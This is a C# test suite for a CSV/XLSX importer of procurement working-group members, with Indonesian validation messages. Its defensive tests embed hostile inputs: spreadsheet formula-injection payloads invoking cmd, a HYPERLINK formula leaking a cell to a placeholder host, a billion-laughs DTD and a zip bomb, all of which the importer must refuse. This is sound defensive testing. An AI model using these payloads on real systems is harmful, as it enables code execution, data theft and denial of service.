using System.IO.Compression;
using System.Text;
using AksesSpse.Core.Requests;
using AksesSpse.Core.Tests.TestSupport;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;

namespace AksesSpse.Core.Tests.Requests;

/// <summary>Good files: CSV with ',' or ';' (with or without BOM) and XLSX with shared or inline strings.</summary>
[Trait("Sop", "PokjaAccounts")]
public sealed class PokjaMemberImportTests
{
    [Theory]
    [InlineData(",", false)]
    [InlineData(";", false)]
    [InlineData(";", true)]
    [InlineData(",", true)]
    public void ReadsAGoodCsvWithEitherDelimiter(string delimiter, bool bom)
    {
        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(delimiter, ImportFiles.Header, ImportFiles.Budi, ImportFiles.Sari), bom));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal(
            [
                new PokjaMember("Budi Santoso", "197011061996031002", "Penata Muda", "III/a", "Bagian PBJ Setda Kab. Badung", "budi@badungkab.go.id", "0812-3456-7890"),
                new PokjaMember("Sari Dewi", "198503152010012001", "Analis Pengadaan", "III/b", "Bagian PBJ Setda Kab. Badung", "sari@badungkab.go.id", "+62 813 1111 2222"),
            ],
            result.Rows);
    }

    [Fact]
    public void ReadsQuotedCsvFieldsThatHoldTheDelimiter()
    {
        var csv = string.Join("\r\n",
            "Nama,NIP,Jabatan,Pangkat/Golongan,Instansi,Email,No. HP",
            "\"Santoso, S.T.\",197011061996031002,Penata,\"Penata Muda, III/a\",\"Dinas PU, Kab. Batang\",budi@batangkab.go.id,081234567890");

        var result = ImportFiles.Read(ImportFiles.Csv(csv));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        var row = Assert.Single(result.Rows);
        Assert.Equal("Santoso, S.T.", row.FullName);
        Assert.Equal("Penata Muda, III/a", row.RankGrade);
        Assert.Equal("Dinas PU, Kab. Batang", row.Agency);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void ReadsAGoodXlsxWithSharedOrInlineStrings(bool sharedStrings)
    {
        var result = ImportFiles.Read(ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi, ImportFiles.Sari], sharedStrings));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal(["Budi Santoso", "Sari Dewi"], result.Rows.Select(r => r.FullName));
        Assert.Equal(["197011061996031002", "198503152010012001"], result.Rows.Select(r => r.Nip));
        Assert.Equal("+62 813 1111 2222", result.Rows[1].Phone);
    }

    [Fact]
    public void ReadsRichTextRunsOfASharedString()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[1] = new ImportFiles.Rich(["Budi ", "Santoso"]);

        var result = ImportFiles.Read(ImportFiles.Xlsx([ImportFiles.Header, budi], sharedStrings: true));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal("Budi Santoso", Assert.Single(result.Rows).FullName);
    }

    [Fact]
    public void AcceptsANipWrittenWithSpacesAndKeepsItsDigits()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[2] = "19701106 199603 1\u00A0002";

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi)));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal("197011061996031002", Assert.Single(result.Rows).Nip);
    }

    [Fact]
    public void TrimsCellsAndMatchesHeadersWhateverTheirCasePunctuationAndOrder()
    {
        var csv = string.Join("\n",
            "  EMAIL ;nama ; Nomor HP;NIP;JABATAN;pangkat / golongan;Instansi;no.",
            " budi@badungkab.go.id ; Budi Santoso ;0812 3456 7890; 197011061996031002 ;Penata Muda ;III/a; Bagian PBJ ;1");

        var result = ImportFiles.Read(ImportFiles.Csv(csv));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal(new PokjaMember("Budi Santoso", "197011061996031002", "Penata Muda", "III/a", "Bagian PBJ", "budi@badungkab.go.id", "0812 3456 7890"),
            Assert.Single(result.Rows));
    }

    [Theory]
    [InlineData("No HP")]
    [InlineData("No. HP")]
    [InlineData("Nomor HP")]
    [InlineData("no_hp")]
    public void AcceptsTheUsualSpellingsOfThePhoneColumn(string title)
    {
        var header = ImportFiles.Header.ToArray();
        header[7] = title;

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", header, ImportFiles.Budi)));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
    }

    [Fact]
    public void SkipsWhollyEmptyLinesAndLinesWithOnlyANumberAndCountsLinesAsTheFileDoes()
    {
        var sari = ImportFiles.Sari.ToArray();
        sari[5] = "";
        var csv = ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Budi, ["", "", "", "", "", "", "", ""], ["3"], sari) + "\r\n\r\n";

        var result = ImportFiles.Read(ImportFiles.Csv(csv));

        var error = Assert.Single(result.Errors);
        Assert.Equal(new PokjaImportError(5, "Instansi", "Instansi wajib diisi."), error);
        Assert.Equal("Baris 5, kolom Instansi: Instansi wajib diisi.", error.Text);
    }

    [Fact]
    public void AcceptsExactlyFiveHundredMembers()
    {
        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.ManyRows(500)));

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Take(3).Select(e => e.Text)));
        Assert.Equal(500, result.Rows.Count);
    }
}

/// <summary>Rows with faults: each is reported with its line and column, and then nothing is imported.</summary>
[Trait("Sop", "PokjaAccounts")]
public sealed class PokjaMemberImportRowErrorTests
{
    [Fact]
    public void ReportsEveryBadRowWithItsLineAndImportsNothing()
    {
        var noName = ImportFiles.Sari.ToArray();
        noName[1] = "";
        var badEmail = ImportFiles.Member(3);
        badEmail[6] = "anggota3@badungkab";
        var badPhone = ImportFiles.Member(4);
        badPhone[7] = "telp 0812";

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Budi, noName, badEmail, badPhone)));

        Assert.False(result.Ok);
        Assert.Empty(result.Rows);
        Assert.Equal(
            [(3, "Nama"), (4, "Email"), (5, "No. HP")],
            result.Errors.Select(e => (e.Line, e.Column)));
        Assert.Equal("Nama wajib diisi.", result.Errors[0].Message);
        Assert.Contains("alamat email \"anggota3@badungkab\" tidak sah", result.Errors[1].Message);
        Assert.Contains("No. HP \"telp 0812\" tidak sah", result.Errors[2].Message);
    }

    [Fact]
    public void RefusesAnInvalidNipWithTheNipValidatorsMessage()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[2] = "19701106199603100";

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi)));

        Assert.Empty(result.Rows);
        var error = Assert.Single(result.Errors);
        Assert.Equal("Baris 2, kolom NIP: NIP harus 18 digit; yang diisi 17 digit.", error.Text);
    }

    [Fact]
    public void RefusesANipWhoseDatesAreImpossible()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[2] = "197013061996031002";

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi))).Errors);

        Assert.Equal("NIP", error.Column);
        Assert.Contains("tanggal lahir yang sah", error.Message);
    }

    [Theory]
    [InlineData(",", "1.97011E+17")]
    [InlineData(";", "1,97011E+17")]
    [InlineData(",", "1.97011061996031E+17")]
    public void RefusesANipInScientificNotationWithAHintToFormatTheColumnAsText(string delimiter, string nip)
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[2] = nip;

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(delimiter, ImportFiles.Header, budi))).Errors);

        Assert.Equal((2, "NIP"), (error.Line, error.Column));
        Assert.Contains("angka berpangkat", error.Message);
        Assert.Contains("Format kolom NIP sebagai Teks", error.Message);
    }

    [Fact]
    public void RefusesANipThatLostItsLastDigitsWithTheSameHint()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[2] = "197011061996031000";

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi))).Errors);

        Assert.Contains("tidak boleh 000", error.Message);
        Assert.Contains("Format kolom NIP sebagai Teks", error.Message);
    }

    [Theory]
    [InlineData("1.97011061996031E+17")]
    [InlineData("197011061996031000")]
    public void RefusesAnXlsxNipStoredAsANumber(string value)
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[2] = new ImportFiles.Num(value);

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Xlsx([ImportFiles.Header, budi])).Errors);

        Assert.Equal((2, "NIP"), (error.Line, error.Column));
        Assert.Contains("tersimpan sebagai angka", error.Message);
        Assert.Contains("Format kolom NIP sebagai Teks", error.Message);
    }

    [Fact]
    public void RefusesAnXlsxPhoneNumberThatLostItsLeadingZero()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[7] = new ImportFiles.Num("81234567890");

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Xlsx([ImportFiles.Header, budi])).Errors);

        Assert.Equal((2, "No. HP"), (error.Line, error.Column));
        Assert.Contains("angka 0 di depannya hilang", error.Message);
    }

    [Fact]
    public void NamesBothLinesOfADuplicateNipAndOfADuplicateEmail()
    {
        var sameNip = ImportFiles.Member(3);
        sameNip[2] = "19701106 199603 1 002"; // Budi's, printed
        var sameEmail = ImportFiles.Member(4);
        sameEmail[6] = "SARI@badungkab.go.id";

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Budi, ImportFiles.Sari, sameNip, sameEmail)));

        Assert.Empty(result.Rows);
        Assert.Equal(2, result.Errors.Count);
        Assert.Equal((4, "NIP"), (result.Errors[0].Line, result.Errors[0].Column));
        Assert.Contains("NIP 19701106 199603 1 002 tercantum dua kali: di baris 2 dan baris 4", result.Errors[0].Message);
        Assert.Equal((5, "Email"), (result.Errors[1].Line, result.Errors[1].Column));
        Assert.Contains("tercantum dua kali: di baris 3 dan baris 5", result.Errors[1].Message);
    }

    [Fact]
    public void RefusesValuesLongerThanTheMembersLimits()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[4] = new string('x', PokjaMember.RankGradeMax + 1);

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi))).Errors);

        Assert.Equal($"Pangkat/Golongan paling panjang {PokjaMember.RankGradeMax} karakter; yang diisi {PokjaMember.RankGradeMax + 1} karakter.", error.Message);
    }

    [Fact]
    public void RefusesAStrayQuoteWithItsLine()
    {
        var csv = ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Budi, ImportFiles.Sari)
            .Replace("Sari Dewi", "Sari \"Ayu\" Dewi", StringComparison.Ordinal);

        var result = ImportFiles.Read(ImportFiles.Csv(csv));

        Assert.Empty(result.Rows);
        var error = Assert.Single(result.Errors);
        Assert.Equal((3, (string?)null), (error.Line, error.Column));
        Assert.Contains("tanda kutip", error.Message);
    }

    [Fact]
    public void RefusesALineBreakInsideACell()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[3] = "Penata\nMuda";

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi, ImportFiles.Sari)));

        Assert.Empty(result.Rows);
        Assert.Equal("Baris 2, kolom Jabatan: berisi baris baru atau karakter kendali; tulis isinya dalam satu baris.",
            Assert.Single(result.Errors).Text);
    }

    [Fact]
    public void RefusesValuesOutsideTheTemplatesColumns()
    {
        var budi = ImportFiles.Budi.Append("catatan").ToArray();

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi))).Errors);

        Assert.Equal((2, (string?)null), (error.Line, error.Column));
        Assert.Contains("di luar kolom templat (kolom I)", error.Message);
    }
}

/// <summary>The header line: the template's columns, in any order, nothing missing, nothing unknown.</summary>
[Trait("Sop", "PokjaAccounts")]
public sealed class PokjaMemberImportHeaderTests
{
    [Fact]
    public void NamesAMissingColumn()
    {
        var header = ImportFiles.Header.Where(h => (string?)h != "NIP").ToArray();

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", header))).Errors);

        Assert.Equal("Baris 1: kolom NIP tidak ada. Tambahkan kolom itu seperti pada templat.", error.Text);
    }

    [Fact]
    public void NamesAnUnknownColumn()
    {
        var header = ImportFiles.Header.Append("Keterangan").ToArray();

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", header, ImportFiles.Budi))).Errors);

        Assert.Equal(1, error.Line);
        Assert.StartsWith("kolom \"Keterangan\" (kolom I) tidak dikenal.", error.Message);
    }

    [Fact]
    public void NamesAColumnThatAppearsTwice()
    {
        var header = ImportFiles.Header.Append("E-mail").ToArray();

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", header))).Errors);

        Assert.Contains("kolom Email ada dua kali (kolom G dan I)", error.Message);
    }

    [Fact]
    public void RefusesAFileWhoseFirstLineIsNotTheHeader()
    {
        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Budi, ImportFiles.Sari)));

        Assert.Empty(result.Rows);
        Assert.All(result.Errors, e => Assert.Equal(1, e.Line));
        Assert.Contains(result.Errors, e => e.Message.StartsWith("kolom \"Budi Santoso\" (kolom B) tidak dikenal", StringComparison.Ordinal));
        Assert.Contains(result.Errors, e => e.Message == "kolom Nama tidak ada. Tambahkan kolom itu seperti pada templat.");
    }

    [Fact]
    public void RefusesAnXlsxWhoseHeaderIsNotOnTheFirstRow()
    {
        var bytes = ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi], firstRow: 3);

        var error = Assert.Single(ImportFiles.Read(bytes).Errors);

        Assert.StartsWith("Baris 1 harus berisi judul kolom templat", error.Message);
    }

    [Fact]
    public void RefusesAHeaderOnlyFileForHavingNoMembers()
    {
        var error = Assert.Single(ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(";", ImportFiles.Header))).Errors);

        Assert.Equal(0, error.Line);
        Assert.Contains("tidak ada baris anggota", error.Message, StringComparison.OrdinalIgnoreCase);
    }
}

/// <summary>Formulas and text a spreadsheet would run as a formula: refused, never evaluated or kept.</summary>
[Trait("Sop", "PokjaAccounts")]
public sealed class PokjaMemberImportFormulaTests
{
    [Fact]
    public void RefusesAnXlsxFormulaCellEvenWithACachedValue()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[1] = new ImportFiles.Formula("CONCAT(\"Budi\",\" Santoso\")", "Budi Santoso");

        var result = ImportFiles.Read(ImportFiles.Xlsx([ImportFiles.Header, budi]));

        Assert.Empty(result.Rows);
        Assert.Equal("Baris 2, kolom Nama: berisi rumus; isi nilai biasa (bukan rumus).", Assert.Single(result.Errors).Text);
    }

    [Fact]
    public void RefusesAFormulaInTheNumberColumnToo()
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[0] = new ImportFiles.Formula("ROW()-1", "1");

        var error = Assert.Single(ImportFiles.Read(ImportFiles.Xlsx([ImportFiles.Header, budi])).Errors);

        Assert.Equal((2, "No"), (error.Line, error.Column));
    }

    [Theory]
    [InlineData(1, "=HYPERLINK(\"http://contoh.invalid/?x=\"&B2,\"klik\")", "Nama")]
    [InlineData(3, "@SUM(1+1)*cmd|' /C calc'!A0", "Jabatan")]
    [InlineData(5, "+cmd|' /C calc'!A0", "Instansi")]
    [InlineData(6, "-2+3+cmd|' /C calc'!A0", "Email")]
    [InlineData(4, "\tIII/a", "Pangkat/Golongan")]
    [InlineData(1, "  =1+1", "Nama")]
    public void RefusesCsvTextThatASpreadsheetWouldRunAsAFormula(int index, string value, string column)
    {
        var budi = ImportFiles.Budi.ToArray();
        budi[index] = value;

        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, budi)));

        Assert.Empty(result.Rows);
        var error = Assert.Single(result.Errors, e => e.Message.Contains("berisi rumus", StringComparison.Ordinal));
        Assert.Equal((2, column), (error.Line, error.Column));
    }

    [Fact]
    public void KeepsAPhoneNumberThatStartsWithPlusAndADigit()
    {
        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Sari)));

        Assert.True(result.Ok);
        Assert.Equal("+62 813 1111 2222", Assert.Single(result.Rows).Phone);
    }
}

/// <summary>Files that are too big, too long, not a spreadsheet, or built to hurt: one clear error, no rows.</summary>
[Trait("Sop", "PokjaAccounts")]
public sealed class PokjaMemberImportHostileFileTests
{
    [Fact]
    public void RefusesTenThousandRowsWithOneErrorAfterRowFiveHundred()
    {
        var result = ImportFiles.Read(ImportFiles.Csv(ImportFiles.ManyRows(10_000)));

        Assert.Empty(result.Rows);
        var error = Assert.Single(result.Errors);
        Assert.Equal(0, error.Line);
        Assert.Contains("paling banyak 500 anggota per permohonan", error.Message);
    }

    [Fact]
    public void RefusesTenThousandXlsxRowsWithOneError()
    {
        var rows = new List<object?[]> { ImportFiles.Header };
        rows.AddRange(Enumerable.Range(1, 10_000).Select(ImportFiles.Member));

        var result = ImportFiles.Read(ImportFiles.Xlsx(rows, sharedStrings: true));

        Assert.Contains("paling banyak 500 anggota per permohonan", Assert.Single(result.Errors).Message);
    }

    [Fact]
    public void RefusesAFileOfTwoAndAHalfMegabytes()
    {
        var bytes = ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Budi) + "\r\n" + new string(' ', 2_500_000));

        var error = Assert.Single(ImportFiles.Read(bytes).Errors);

        Assert.Equal(0, error.Line);
        Assert.StartsWith("Berkas lebih dari 2 MB.", error.Message);
    }

    [Fact]
    public void RefusesAFileLargerThanTwoMegabytesFromAStreamThatCannotTellItsLength()
    {
        var bytes = ImportFiles.Csv(ImportFiles.Lines(",", ImportFiles.Header, ImportFiles.Budi) + "\r\n" + new string(' ', 2_500_000));

        var result = PokjaMemberImport.Read(new UnseekableStream(bytes), ImportFiles.Today);

        Assert.StartsWith("Berkas lebih dari 2 MB.", Assert.Single(result.Errors).Message);
    }

    public static TheoryData<string, byte[]> NotSpreadsheets() => new()
    {
        { "pdf", TestFiles.Pdf() },
        { "png", TestFiles.Png() },
        { "jpeg", TestFiles.Jpeg() },
        { "exe", TestFiles.Exe() },
        { "random", TestFiles.RandomBytes(4096) },
        { "docx-like zip", ImportFiles.Zip(("word/document.xml", "<w:document/>"u8.ToArray())) },
        { "utf-16 text", Encoding.Unicode.GetBytes("Nama\tNIP\r\n") },
    };

    [Theory]
    [MemberData(nameof(NotSpreadsheets))]
    public void RefusesContentThatIsNeitherCsvNorXlsxWhateverItsName(string kind, byte[] content)
    {
        var result = ImportFiles.Read(content);

        Assert.Empty(result.Rows);
        var error = Assert.Single(result.Errors);
        Assert.Equal(0, error.Line);
        Assert.True(error.Message.Contains("bukan CSV atau XLSX", StringComparison.Ordinal), $"{kind}: {error.Message}");
    }

    [Fact]
    public void RefusesAnOldExcelFileWithAHintToSaveAsXlsx()
    {
        byte[] ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

        var error = Assert.Single(ImportFiles.Read(ole).Errors);

        Assert.Contains("Excel lama (.xls)", error.Message);
        Assert.Contains("simpan sebagai .xlsx", error.Message);
    }

    [Fact]
    public void RefusesAnEmptyFile()
    {
        var error = Assert.Single(ImportFiles.Read([]).Errors);

        Assert.StartsWith("Berkas kosong.", error.Message);
    }

    [Fact]
    public void RefusesACsvThatIsNotUtf8WithAHintToSaveAsCsvUtf8()
    {
        var latin1 = Encoding.Latin1.GetBytes(ImportFiles.Lines(",", ImportFiles.Header) + "\r\nJosé,197011061996031002,a,b,c,d@e.go.id,0812345678");

        var error = Assert.Single(ImportFiles.Read(latin1).Errors);

        Assert.Contains("UTF-8", error.Message);
    }

    [Fact]
    public void RefusesAZipBombBeforeInflatingIt()
    {
        var spaces = new byte[30 * 1024 * 1024];
        Array.Fill(spaces, (byte)' ');
        byte[] sheet =
        [
            .. "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"u8, .. spaces,
            .. "</sheetData></worksheet>"u8,
        ];
        var bytes = ImportFiles.ReplaceSheet(ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi]), sheet);

        Assert.True(bytes.Length < PokjaMemberImport.MaxFileBytes);
        var error = Assert.Single(ImportFiles.Read(bytes).Errors);
        Assert.Contains("terlalu besar setelah dibuka", error.Message);
    }

    [Fact]
    public void RefusesAWorkbookOfSixtyEntries()
    {
        var bytes = ImportFiles.AddEntries(ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi]), 60);

        var error = Assert.Single(ImportFiles.Read(bytes).Errors);

        Assert.Contains("terlalu banyak bagian", error.Message);
    }

    [Fact]
    public void RefusesASheetWithADocumentTypeDefinition()
    {
        var sheet = Encoding.UTF8.GetBytes("""
            <?xml version="1.0"?>
            <!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
            <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
            <row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row></sheetData></worksheet>
            """);
        var bytes = ImportFiles.ReplaceSheet(ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi]), sheet);

        var result = ImportFiles.Read(bytes);

        Assert.Empty(result.Rows);
        Assert.Contains("XLSX rusak atau tidak dapat dibaca", Assert.Single(result.Errors).Message);
    }

    [Fact]
    public void RefusesACorruptXlsx()
    {
        var bytes = ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi]);
        var cut = bytes[..(bytes.Length / 2)];

        var result = ImportFiles.Read(cut);

        Assert.Empty(result.Rows);
        Assert.Single(result.Errors);
    }

    [Fact]
    public void RefusesASharedStringIndexOutsideTheTable()
    {
        var sheet = Encoding.UTF8.GetBytes("""
            <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
            <row r="1"><c r="A1" t="s"><v>99999</v></c></row></sheetData></worksheet>
            """);
        var bytes = ImportFiles.ReplaceSheet(ImportFiles.Xlsx([ImportFiles.Header, ImportFiles.Budi], sharedStrings: true), sheet);

        Assert.Contains("XLSX rusak atau tidak dapat dibaca", Assert.Single(ImportFiles.Read(bytes).Errors).Message);
    }

    private sealed class UnseekableStream(byte[] bytes) : MemoryStream(bytes)
    {
        public override bool CanSeek => false;

        public override long Length => throw new NotSupportedException();
    }
}

/// <summary>The downloadable templates: valid files that the import reads back.</summary>
[Trait("Sop", "PokjaAccounts")]
public sealed class PokjaMemberImportTemplateTests
{
    [Fact]
    public void AnEmptyXlsxTemplateHasNoMembers()
    {
        var error = Assert.Single(ImportFiles.Read(PokjaMemberTemplate.Xlsx()).Errors);

        Assert.Contains("tidak ada baris anggota", error.Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void AFilledInXlsxTemplateImportsCleanly()
    {
        using var stream = new MemoryStream();
        stream.Write(PokjaMemberTemplate.Xlsx());
        using (var document = SpreadsheetDocument.Open(stream, true))
        {
            var workbook = document.WorkbookPart!;
            var first = workbook.Workbook.Sheets!.Elements<Sheet>().First();
            var data = ((WorksheetPart)workbook.GetPartById(first.Id!)).Worksheet.GetFirstChild<SheetData>()!;
            foreach (var (row, line) in new[] { ImportFiles.Budi, ImportFiles.Sari }.Select((r, i) => (r, i + 2)))
            {
                data.Append(new Row(row.Select((v, c) => new Cell
                {
                    CellReference = $"{(char)('A' + c)}{line}",
                    DataType = CellValues.InlineString,
                    StyleIndex = 1,
                    InlineString = new InlineString(new Text((string)v!)),
                })) { RowIndex = (uint)line });
            }
        }

        var result = ImportFiles.Read(stream.ToArray());

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal(["Budi Santoso", "Sari Dewi"], result.Rows.Select(r => r.FullName));
    }

    [Fact]
    public void TheXlsxTemplateIsAValidWorkbookWithTextColumnsAndInstructions()
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(PokjaMemberTemplate.Xlsx()), false);

        Assert.Empty(new OpenXmlValidator().Validate(document));
        var workbook = document.WorkbookPart!;
        var sheets = workbook.Workbook.Sheets!.Elements<Sheet>().ToList();
        Assert.Equal(["Anggota", "Petunjuk"], sheets.Select(s => s.Name!.Value));
        var members = ((WorksheetPart)workbook.GetPartById(sheets[0].Id!)).Worksheet;
        var header = members.GetFirstChild<SheetData>()!.Elements<Row>().Single();
        Assert.Equal(["No", .. PokjaMember.ColumnTitles], header.Elements<Cell>().Select(c => c.InnerText));
        var formats = workbook.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ToList();
        var columns = members.GetFirstChild<Columns>()!.Elements<Column>().ToList();
        Assert.Equal(8, columns.Count);
        Assert.All(columns, c => Assert.Equal(49u, formats[(int)c.Style!.Value].NumberFormatId!.Value));
        Assert.True(formats[(int)header.Elements<Cell>().First().StyleIndex!.Value].ApplyFont!.Value);
        var help = ((WorksheetPart)workbook.GetPartById(sheets[1].Id!)).Worksheet;
        Assert.Contains("NIP 18 digit", help.InnerText, StringComparison.Ordinal);
    }

    [Fact]
    public void TheCsvTemplateIsUtf8WithBomAndTheHeaderOnly()
    {
        var bytes = PokjaMemberTemplate.Csv();

        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        Assert.Equal("No;Nama;NIP;Jabatan;Pangkat/Golongan;Instansi;Email;No. HP\r\n", Encoding.UTF8.GetString(bytes[3..]));
        Assert.Contains("tidak ada baris anggota", Assert.Single(ImportFiles.Read(bytes).Errors).Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void AFilledInCsvTemplateImportsCleanly()
    {
        var bytes = PokjaMemberTemplate.Csv()
            .Concat(Encoding.UTF8.GetBytes(ImportFiles.Lines(";", ImportFiles.Budi, ImportFiles.Sari))).ToArray();

        var result = ImportFiles.Read(bytes);

        Assert.True(result.Ok, string.Join(" | ", result.Errors.Select(e => e.Text)));
        Assert.Equal(2, result.Rows.Count);
    }
}

/// <summary>Import files made in the tests: CSV as strings, XLSX with the Open XML SDK, hostile zips by hand.</summary>
internal static class ImportFiles
{
    public static readonly DateOnly Today = DateOnly.FromDateTime(TestTime.DefaultStart.UtcDateTime);

    public static readonly object?[] Header = ["No", "Nama", "NIP", "Jabatan", "Pangkat/Golongan", "Instansi", "Email", "No. HP"];

    public static readonly object?[] Budi =
        ["1", "Budi Santoso", "197011061996031002", "Penata Muda", "III/a", "Bagian PBJ Setda Kab. Badung", "budi@badungkab.go.id", "0812-3456-7890"];

    public static readonly object?[] Sari =
        ["2", "Sari Dewi", "198503152010012001", "Analis Pengadaan", "III/b", "Bagian PBJ Setda Kab. Badung", "sari@badungkab.go.id", "+62 813 1111 2222"];

    /// <summary>The n-th of many distinct valid members.</summary>
    public static object?[] Member(int n)
    {
        var birth = new DateOnly(1970, 1, 1).AddDays(n % 9000);
        var nip = $"{birth:yyyyMMdd}202001{1}{n / 9000 + 1:000}";
        return [$"{n}", $"Anggota {n}", nip, "Staf", "II/c", "Dinas Kominfo", $"anggota{n}@badungkab.go.id", "0812 0000 0000"];
    }

    public sealed record Num(string Value);

    public sealed record Formula(string Expression, string Cached);

    public sealed record Rich(string[] Runs);

    public static PokjaImportResult Read(byte[] bytes) => PokjaMemberImport.Read(new MemoryStream(bytes), Today);

    /// <summary>CSV lines; a value holding the delimiter, a quote or a line break is quoted as RFC 4180 says.</summary>
    public static string Lines(string delimiter, params object?[][] rows) =>
        string.Join("\r\n", rows.Select(r => string.Join(delimiter, r.Select(v => Quoted(v?.ToString() ?? "", delimiter)))));

    private static string Quoted(string value, string delimiter) =>
        value.Contains(delimiter, StringComparison.Ordinal) || value.IndexOfAny(['"', '\r', '\n']) >= 0
            ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\""
            : value;

    public static byte[] Csv(string text, bool bom = false) =>
        [.. bom ? Encoding.UTF8.Preamble : [], .. Encoding.UTF8.GetBytes(text)];

    public static string ManyRows(int count) =>
        Lines(",", [Header, .. Enumerable.Range(1, count).Select(Member)]);

    public static byte[] Xlsx(IEnumerable<object?[]> rows, bool sharedStrings = false, int firstRow = 1)
    {
        using var stream = new MemoryStream();
        using (var document = SpreadsheetDocument.Create(stream, SpreadsheetDocumentType.Workbook))
        {
            var workbook = document.AddWorkbookPart();
            workbook.Workbook = new Workbook();
            var worksheet = workbook.AddNewPart<WorksheetPart>();
            var strings = new List<OpenXmlElement[]>();
            var data = new SheetData();
            var line = firstRow;
            foreach (var values in rows)
            {
                var row = new Row { RowIndex = (uint)line };
                for (var c = 0; c < values.Length; c++)
                {
                    if (values[c] is { } value)
                    {
                        row.Append(Cell($"{(char)('A' + c)}{line}", value, sharedStrings, strings));
                    }
                }

                data.Append(row);
                line++;
            }

            worksheet.Worksheet = new Worksheet(data);
            if (sharedStrings)
            {
                workbook.AddNewPart<SharedStringTablePart>().SharedStringTable =
                    new SharedStringTable(strings.Select(s => new SharedStringItem(s))) { Count = (uint)strings.Count };
            }

            workbook.Workbook.AppendChild(new Sheets(new Sheet { Name = "Anggota", SheetId = 1, Id = workbook.GetIdOfPart(worksheet) }));
        }

        return stream.ToArray();
    }

    private static Cell Cell(string reference, object value, bool shared, List<OpenXmlElement[]> strings)
    {
        OpenXmlElement[] content = value switch
        {
